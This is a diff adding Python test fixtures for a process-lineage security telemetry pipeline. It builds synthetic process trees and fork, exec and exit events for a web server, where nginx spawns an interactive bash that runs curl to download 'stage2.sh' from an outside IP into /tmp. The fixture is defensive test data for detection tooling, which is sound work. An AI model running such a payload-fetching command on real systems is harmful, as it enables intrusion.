@@ -1,0 +1,303 @@
+"""Processes made by hand, rich in what a document can hold, and the events that go with them. No tree, no kernel."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import orjson
+
+from pipeline import wire
+from pipeline.config import Config
+from pipeline.counters import Counters
+from pipeline.enrich import Describer
+from pipeline.events import Account, Exec, Exit, Fork, HostFacts, ProcessEvent, Stamp, Task
+from pipeline.process import Ancestor, Credentials, Image, ProcessVersion, entity_id
+
+BOOT_ID = bytes(range(16))
+PID_NS = 4026531836
+CONTAINER_NS = 4026532999
+OFFSET_NS = 1_767_225_600_000_000_000  # boot at 2026-01-01T00:00:00Z
+SECOND_NS = 10**9
+PTS_0 = 136 << 20
+FACTS: dict[str, Any] = {
+    "host": {
+        "name": "web-1",
+        "hostname": "web-1.example.org",
+        "id": "0123456789abcdef0123456789abcdef",
+        "architecture": "x86_64",
+        "ip": ["192.0.2.10", "2001:db8::10"],
+        "mac": ["00-00-5E-00-53-01"],
+        "os": {
+            "type": "linux",
+            "platform": "debian",
+            "family": "debian",
+            "name": "Debian GNU/Linux",
+            "full": "Debian GNU/Linux 12 (bookworm)",
+            "version": "12",
+            "kernel": "6.1.0",
+        },
+    },
+    "agent": {"type": "lineage", "version": "0.1.0", "id": "0f7c9ab1", "name": "web-1"},
+}
+PATTERNS: list[str] = Config.model_fields["mask_patterns"].default
+
+ROOT = Credentials(0, 0, 0, 0, 0, 0, 0, 0, (), 0x1FFFFFFFFFF, 0x1FFFFFFFFFF)
+WWW = Credentials(33, 33, 33, 33, 33, 33, 33, 33, (33, 4), 0, 0)
+SUDO = Credentials(1000, 1000, 0, 0, 0, 0, 0, 0, (27, 1000), 0x1FFFFFFFFFF, 0xC0)
+
+SYSTEMD = Image("systemd", "/usr/lib/systemd/systemd", ("/sbin/init",))
+NGINX = Image("nginx", "/usr/sbin/nginx", ("nginx", "-g", "daemon off;"))
+BASH = Image("bash", "/usr/bin/bash", ("bash", "-i"))
+CURL = Image("curl", "/usr/bin/curl", ("curl", "http://203.0.113.50/stage2.sh", "-o", "/tmp/s"))
+
+
+def identity(pid: int, start_ns: int) -> str:
+    return entity_id(BOOT_ID, PID_NS, pid, start_ns)
+
+
+def ancestor(pid: int, image: Image, **fields: Any) -> Ancestor:
+    """One that started ``pid`` seconds after the boot, in its own session."""
+    start_ns = fields.pop("start_ns", pid * SECOND_NS)
+    made = Ancestor(
+        entity_id=identity(pid, start_ns),
+        since_ns=start_ns,
+        pid=pid,
+        ns_pid=pid,
+        start_ns=start_ns,
+        image=image,
+        working_directory="/",
+        credentials=ROOT,
+        tty=0,
+        group_id=pid,
+        group_start_ns=start_ns,
+        session_id=pid,
+        session_start_ns=start_ns,
+        interactive=False,
+        pid_ns=PID_NS,
+    )
+    return made._replace(**fields)
+
+
+INIT = ancestor(1, SYSTEMD)
+SERVER = ancestor(1234, NGINX, credentials=WWW, working_directory="/var/www")
+SHELL = ancestor(
+    5678,
+    BASH,
+    credentials=WWW,
+    tty=PTS_0,
+    interactive=True,
+    group_id=5678,
+    session_id=1234,
+    session_start_ns=SERVER.start_ns,
+    working_directory="/var/www",
+)
+
+
+def process(pid: int = 9012, image: Image = CURL, **fields: Any) -> ProcessVersion:
+    """``systemd → nginx → bash → curl`` of the web server, unless told otherwise."""
+    start_ns = fields.pop("start_ns", 10_000 * SECOND_NS + 123_456_789)
+    ancestors = fields.pop("ancestors", (SHELL, SERVER, INIT))
+    made = ProcessVersion(
+        entity_id=identity(pid, start_ns),
+        since_ns=start_ns + 1_000_000,
+        pid=pid,
+        ns_pid=pid,
+        pid_ns=PID_NS,
+        start_ns=start_ns,
+        image=image,
+        previous=(),
+        working_directory="/var/www",
+        credentials=WWW,
+        tty=0,
+        interactive=False,
+        thread_name=image.name[:15],
+        tid=pid,
+        cgroup_id=42,
+        group_id=SHELL.pid,
+        group_start_ns=SHELL.start_ns,
+        session_id=SERVER.pid,
+        session_start_ns=SERVER.start_ns,
+        sockets=0,
+        kernel_thread=False,
+        ancestors=ancestors,
+        depth=len(ancestors),
+        complete=True,
+        doubt=(),
+        reaper=None,
+        group_leader=SHELL,
+        session_leader=SERVER,
+        entry_leader=SERVER,
+        entry_type="init",
+        boot_pid_ns=PID_NS,
+        exit_status=None,
+        end_ns=None,
+    )
+    return made._replace(**fields)
+
+
+def task(of: ProcessVersion) -> Task:
+    c = of.credentials
+    return Task(
+        pid=of.pid,
+        tid=of.tid,
+        start_ns=of.start_ns,
+        thread_start_ns=of.start_ns,
+        parent_pid=of.parent.pid if of.parent else 0,
+        ns_pid=of.ns_pid,
+        parent_start_ns=of.parent.start_ns if of.parent else 0,
+        ns_tid=of.ns_pid,
+        pid_ns=of.pid_ns,
+        mnt_ns=1,
+        net_ns=1,
+        cgroup_ns=1,
+        tty=of.tty,
+        session_id=of.session_id,
+        group_id=of.group_id,
+        session_start_ns=of.session_start_ns,
+        group_start_ns=of.group_start_ns,
+        cgroup_id=of.cgroup_id,
+        uid=c.uid,
+        gid=c.gid,
+        suid=c.suid,
+        sgid=c.sgid,
+        euid=c.euid,
+        egid=c.egid,
+        fsuid=c.fsuid,
+        fsgid=c.fsgid,
+        cap_permitted=c.cap_permitted,
+        cap_effective=c.cap_effective,
+        comm=of.thread_name,
+    )
+
+
+def forked(of: ProcessVersion) -> Fork:
+    parent = of.parent
+    birth = (parent.pid, parent.pid, parent.start_ns) if parent else (0, 0, 0)
+    return Fork(Stamp(of.start_ns + 500, 1, 7, wire.FORK), task(of), *birth, of.kernel_thread)
+
+
+def executed(of: ProcessVersion) -> Exec:
+    return Exec(
+        stamp=Stamp(of.since_ns, 1, 8, wire.EXEC),
+        task=task(of),
+        old_tid=of.pid,
+        filename=of.image.executable,
+        executable=of.image.executable,
+        working_directory=of.working_directory,
+        args=of.image.args,
+        args_total_bytes=sum(len(arg.encode()) + 1 for arg in of.image.args),
+        groups=of.credentials.groups,
+        inode=42,
+        device=8 << 20 | 1,
+        mode=0o100755,
+        sockets=of.sockets,
+        cut=of.image.cut,
+    )
+
+
+def ended(of: ProcessVersion, status: int = 0, *, core_dumped: bool = False) -> Exit:
+    return Exit(Stamp(of.start_ns + 2 * SECOND_NS, 0, 9, wire.EXIT), task(of), status, core_dumped)
+
+
+def describer(counters: Counters | None = None, patterns: list[str] | None = None) -> Describer:
+    """One that knows the host and its accounts."""
+    made = Describer("default", PATTERNS if patterns is None else patterns, counters or Counters())
+    made.learn(HostFacts(Stamp(1, 0, 0, wire.HOST), BOOT_ID, OFFSET_NS, PID_NS, FACTS))
+    for number, name in ((0, "root"), (33, "www-data"), (1000, "alice")):
+        made.learn(Account(Stamp(2, 0, number, wire.ACCOUNT), False, number, name))
+        made.learn(Account(Stamp(2, 0, number, wire.ACCOUNT), True, number, name))
+    return made
+
+
+def told(event: ProcessEvent, of: ProcessVersion, by: Describer | None = None) -> dict[str, Any]:
+    """The document as a value; there is one."""
+    document = (by or describer()).describe(event, of)
+    assert document is not None
+    parsed: dict[str, Any] = orjson.loads(document.body)
+    return parsed
+
+
+KERNEL_THREAD = process(
+    77,
+    Image("kworker/0:1", "", ()),
+    start_ns=77 * SECOND_NS,
+    working_directory="",
+    credentials=ROOT,
+    group_id=0,
+    group_start_ns=0,
+    session_id=0,
+    session_start_ns=0,
+    kernel_thread=True,
+    ancestors=(ancestor(2, Image("kthreadd", "", ()), working_directory="", group_id=0, session_id=0),),
+    group_leader=None,
+    session_leader=None,
+    entry_leader=None,
+    entry_type="",
+)
+ORPHAN = process(
+    300,
+    BASH,
+    ancestors=(),
+    complete=False,
+    doubt=("loss", "unknown_parent"),
+    reaper=INIT,
+    group_leader=None,
+    session_leader=None,
+    session_start_ns=0,
+    entry_leader=None,
+    entry_type="",
+)
+IN_CONTAINER = process(
+    9100,
+    BASH,
+    ns_pid=12,
+    pid_ns=CONTAINER_NS,
+    credentials=SUDO,
+    ancestors=(ancestor(9000, NGINX, ns_pid=1, pid_ns=CONTAINER_NS, credentials=WWW), INIT),
+)
+INTERACTIVE = process(
+    9200,
+    Image("python3", "/usr/bin/python3.11", ("python3", "-c", "pass")),
+    credentials=SUDO,
+    tty=PTS_0 | 3,
+    interactive=True,
+    tid=9205,
+    thread_name="worker",
+    sockets=7,
+    previous=(Image("env", "/usr/bin/env", ("env", "python3")), SYSTEMD),
+    doubt=("snapshot",),
+    reaper=INIT,
+)
+OWN_LEADER = process(
+    SHELL.pid,
+    BASH,
+    start_ns=SHELL.start_ns,
+    tty=PTS_0,
+    interactive=True,
+    ancestors=(SERVER, INIT),
+    session_leader=SHELL,
+    session_id=SHELL.pid,
+    entry_leader=SHELL,
+    entry_type="terminal",
+)
+FIRST = process(
+    1, SYSTEMD, start_ns=SECOND_NS, credentials=ROOT, ancestors=(), group_leader=INIT, session_leader=INIT
+)._replace(entry_leader=None, entry_type="", group_id=1, session_id=1)
+
+
+def every_document() -> dict[str, dict[str, Any]]:
+    """One of each kind, and of each kind of process."""
+    by = describer()
+    return {
+        "fork": told(forked(process(image=BASH)), process(image=BASH), by),
+        "exec": told(executed(process()), process(), by),
+        "end": told(ended(process()), process(), by),
+        "killed": told(ended(INTERACTIVE, 139, core_dumped=True), INTERACTIVE, by),
+        "interactive": told(executed(INTERACTIVE), INTERACTIVE, by),
+        "container": told(executed(IN_CONTAINER), IN_CONTAINER, by),
+        "orphan": told(executed(ORPHAN), ORPHAN, by),
+        "own_leader": told(forked(OWN_LEADER), OWN_LEADER, by),
+        "kernel_thread": told(forked(KERNEL_THREAD), KERNEL_THREAD, by),
+        "running": orjson.loads(by.describe_running(process()).body),
+        "first": orjson.loads(by.describe_running(FIRST).body),
+    }
